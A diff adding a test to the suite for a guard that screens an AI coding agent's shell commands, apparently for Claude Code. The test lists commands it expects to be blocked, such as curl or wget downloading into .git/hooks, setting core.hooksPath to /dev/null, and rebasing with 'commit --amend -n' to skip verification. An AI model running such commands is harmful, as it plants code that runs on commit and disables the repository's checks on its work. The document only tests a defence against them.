@@ -57,6 +57,31 @@ describe('wf hook pre-bash (Claude Code PreToolUse guard)', () => {
     }
   });
 
+  it('blocks writes into git\'s hooks and config by copy, download, extraction, git config set and rebase --exec, and lets the same tools write elsewhere', () => {
+    const repo = track(makeRepo());
+    for (const [command, reason] of [
+      ['cp evil .git/hooks/', 'cp would write into .git/hooks'],
+      ['install -m755 f .git/hooks', 'install would write into .git/hooks'],
+      ['curl -sSLo .git/hooks/pre-commit https://example.com/x', 'curl would change .git/hooks/pre-commit'],
+      ['wget -P .git/hooks https://example.com/pre-commit', 'wget would write into .git/hooks'],
+      ['tar -C .git -xf a.tar', 'tar would write into .git'],
+      ['git config set core.hooksPath /dev/null', 'core.hooksPath'],
+      ['git rebase -x "git commit --amend -n" main', 'git commit --no-verify (-n)'],
+      ['cd -P .git && echo x > config', '.git/config'],
+      ['env -C .git tee config', 'tee would change .git/config'],
+      ['cd "$D" && echo x > hooks/pre-commit', 'a folder the guard cannot tell'],
+    ] as const) {
+      const r = bash(repo, command);
+      expect(r.code, command).toBe(2);
+      expect(r.stderr, command).toContain(reason);
+      expect(r.stderr, command).toContain('next:');
+      expect(r.stderr, command).not.toMatch(/TypeError|RangeError|at .+\.js:\d+/);
+    }
+    for (const command of ['cp a.txt b.txt', 'mkdir -p src/x && cp t.ts src/x/', 'curl -o /tmp/f.json https://example.com/f.json', 'tar -xzf a.tgz -C /tmp/x', 'unzip -d build a.zip', 'git config --get user.name', 'git rebase -x "npm test" main', 'ls -la .git && cat .git/config']) {
+      expectCode(bash(repo, command), 0);
+    }
+  });
+
   it('runs the same gates as the pre-commit hook before a git commit', () => {
     const repo = track(plannedRepo());
     repo.write('src/x.txt', 'x\n');
